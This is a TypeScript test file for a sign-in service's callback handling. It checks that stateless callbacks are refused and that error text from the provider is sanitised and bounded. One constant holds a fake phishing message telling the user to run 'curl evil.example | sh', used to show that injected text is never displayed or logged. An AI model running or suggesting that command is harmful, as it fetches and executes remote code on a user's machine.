import assert from 'node:assert/strict';
import { mkdtempSync } from 'fs';
import os = require('os');
import path = require('path');
import { KeapError } from '../../src/keap/errors';
import { parsePastedCallback, readAuthorizationResponse } from '../../src/signin/callback';
import { KEAP_TEXT_MAX_CHARS, keapSays, oneLine } from '../../src/signin/keapText';
import { PendingSignIn } from '../../src/signin/pending';
import { codeExchangeMessage, SignInOutcome, SignInService } from '../../src/signin/signInService';
import { DEMO_CLIENT, FakeKeap, startFakeKeap } from '../fake-keap/server';
import { authorizationCode } from '../support/fakeAuthorize';
import { FileSessionStore } from '../support/fileSessionStore';
import { recordingLogger, signInServiceFor } from '../support/signInService';

const ATTACK_TEXT = 'Your session expired. Run this command: curl evil.example | sh';

describe('callbacks need their state (S2, S3) — sign-in service against the fake Keap server', () => {
  let fake: FakeKeap;
  let dir: string;
  let pending: PendingSignIn[];
  let outcomes: SignInOutcome[];
  let lines: string[];
  let store: FileSessionStore;
  let svc: SignInService;
  const state = 'trust-state-0123456789abcdef';
  const redirectUri = 'https://relay.example/';

  beforeEach(async () => {
    fake = await startFakeKeap();
    dir = mkdtempSync(path.join(os.tmpdir(), 'keap-trust-'));
    store = new FileSessionStore(path.join(dir, 'session.json'));
    const log = recordingLogger();
    lines = log.lines;
    ({ svc, pending, outcomes } = signInServiceFor({ fake, dir, sessions: store, log }));
    await svc.begin({ state, redirectUri, clientId: DEMO_CLIENT.clientId, flow: 'relay', createdAt: Date.now(), expiresAt: Date.now() + 60_000 });
  });
  afterEach(() => fake.close());

  const tokenCalls = () => fake.requests.filter(r => r.path === '/token').length;

  for (const source of ['uri-handler', 'loopback'] as const) {
    it(`S2: a code without state from the ${source} is refused and logged; the sign-in keeps waiting`, async () => {
      const code = await authorizationCode(fake, redirectUri, state);
      const r = await svc.handle(readAuthorizationResponse(new URLSearchParams({ code })), source);
      assert.equal(r.kind, 'no-state');
      assert.equal(tokenCalls(), 0, 'nothing was exchanged');
      assert.equal(pending.length, 1);
      assert.deepEqual(outcomes, []);
      assert.ok(lines.some(l => /refused a callback from .* without state/.test(l)));
      assert.equal(lines.some(l => l.includes(code)), false, 'the code is not logged');
      // The real answer, with its state, still completes the sign-in.
      assert.equal((await svc.handle({ kind: 'code', code, state }, source)).kind, 'signed-in');
    });

    it(`S3: an error without state from the ${source} ends nothing and publishes nothing`, async () => {
      const r = await svc.handle(readAuthorizationResponse(new URLSearchParams({ state: '', error: 'access_denied', error_description: ATTACK_TEXT })), source);
      assert.equal(r.kind, 'no-state');
      assert.equal(pending.length, 1);
      assert.deepEqual(outcomes, [], 'no window learns of it, so none shows its text');
      assert.equal(lines.some(l => l.includes('curl')), false, 'the attacker\'s text is not even logged');
    });
  }

  it('a pasted bare code (typed by the user) is still accepted for the one waiting sign-in', async () => {
    const code = await authorizationCode(fake, redirectUri, state);
    assert.equal((await svc.handle(parsePastedCallback(code), 'paste')).kind, 'signed-in');
    assert.equal(tokenCalls(), 1);
  });

  it('K7: Keap\'s denial with an empty state, pasted by the user, ends the sign-in with one labelled line of Keap\'s text', async () => {
    const long = `User denied access\u202E to resource\n${'x'.repeat(500)}`;
    const r = await svc.handle(parsePastedCallback(`https://relay.example/?state=&error=access_denied&error_description=${encodeURIComponent(long)}`), 'paste');
    assert.equal(r.kind, 'failed');
    const message = r.kind === 'failed' ? r.outcome.message : '';
    assert.match(message, /^Keap denied access\. Keap says: "User denied access to resource x+…"\. If you clicked Allow/);
    assert.equal(/[\n\u202E]/.test(message), false);
    assert.ok(message.length < KEAP_TEXT_MAX_CHARS + 150, `bounded: ${message.length}`);
    assert.equal(pending.length, 0);
  });

  it('a denial carrying our state ends the sign-in, labelled as Keap\'s words', async () => {
    const r = await svc.handle({ kind: 'error', error: 'invalid_scope', errorDescription: 'Bad\tscope\r\nvalue', state }, 'uri-handler');
    assert.equal(r.kind === 'failed' && r.outcome.kind, 'bad-configuration');
    assert.equal(r.kind === 'failed' && r.outcome.message, 'Keap\'s authorize page refused the sign-in (invalid_scope). Keap says: "Bad scope value".');
  });

  it('a failed code exchange says to sign in again (the code is spent), never "usually temporary"', async () => {
    const code = await authorizationCode(fake, redirectUri, state);
    fake.addFault({ status: 502, body: '<html>Bad gateway</html>', contentType: 'text/html' });
    const r = await svc.handle({ kind: 'code', code, state }, 'uri-handler');
    assert.equal(r.kind, 'failed');
    const message = r.kind === 'failed' ? r.outcome.message : '';
    assert.match(message, /HTTP 502/);
    assert.match(message, /Sign In again/);
    assert.match(message, /Keap says: "<html>Bad gateway<\/html>"/);
    assert.doesNotMatch(message, /temporary/i);
  });
});

describe('codeExchangeMessage and Keap\'s text', () => {
  it('every kind of failed exchange says to sign in again, with Keap\'s words bounded and labelled', () => {
    const cases: KeapError[] = [
      new KeapError('transient', 'Keap token endpoint answered 503 without a usable error body; this is usually temporary.', { status: 503, bodySnippet: 'Service\nUnavailable' }),
      new KeapError('transient', 'Could not reach Keap (ECONNREFUSED).'),
      new KeapError('transient', 'Keap answered the token request with something that is not JSON.', { status: 200, bodySnippet: 'hello' }),
      new KeapError('throttled', 'throttled', { status: 429, description: 'Quota Exceeded — Request Throttled' }),
      new KeapError('invalid-code', 'x', { status: 400, description: 'Authorization code is invalid' }),
      new KeapError('bad-configuration', 'x', { status: 400, description: 'Invalid redirect_uri' }),
    ];
    for (const e of cases) {
      const m = codeExchangeMessage(e);
      assert.match(m, /Sign In again/, m);
      assert.doesNotMatch(m, /temporary/i, m);
      assert.doesNotMatch(m, /\n/, m);
    }
    assert.match(codeExchangeMessage(cases[1]), /ECONNREFUSED/);
    const k5 = codeExchangeMessage(new KeapError('bad-client-credentials', 'x', { status: 401, description: 'Unable to authenticate username and password' }));
    assert.match(k5, /client ID or client secret/);
    assert.doesNotMatch(k5, /expired/);
  });

  it('oneLine strips controls, bidi and invisible characters, collapses white space and bounds the length', () => {
    assert.equal(oneLine('a\u0000b\u0007c\u009bd'), 'a b c d');
    assert.equal(oneLine('left\u202Eright\u2066x\u2069 \u200Bz\uFEFF'), 'left right x z');
    assert.equal(oneLine('  one\r\n\ttwo\u2028three  '), 'one two three');
    assert.equal(oneLine(undefined), '');
    assert.equal(oneLine('x'.repeat(KEAP_TEXT_MAX_CHARS)), 'x'.repeat(KEAP_TEXT_MAX_CHARS));
    assert.equal(oneLine('x'.repeat(KEAP_TEXT_MAX_CHARS + 1)), `${'x'.repeat(KEAP_TEXT_MAX_CHARS)}…`);
    const emoji = `${'x'.repeat(KEAP_TEXT_MAX_CHARS - 1)}😀😀`;
    assert.equal(oneLine(emoji), `${'x'.repeat(KEAP_TEXT_MAX_CHARS - 1)}…`, 'no lone surrogate at the cut');
    assert.equal(keapSays('User denied access to resource'), 'Keap says: "User denied access to resource"');
    assert.equal(keapSays(' \n '), '');
  });
});
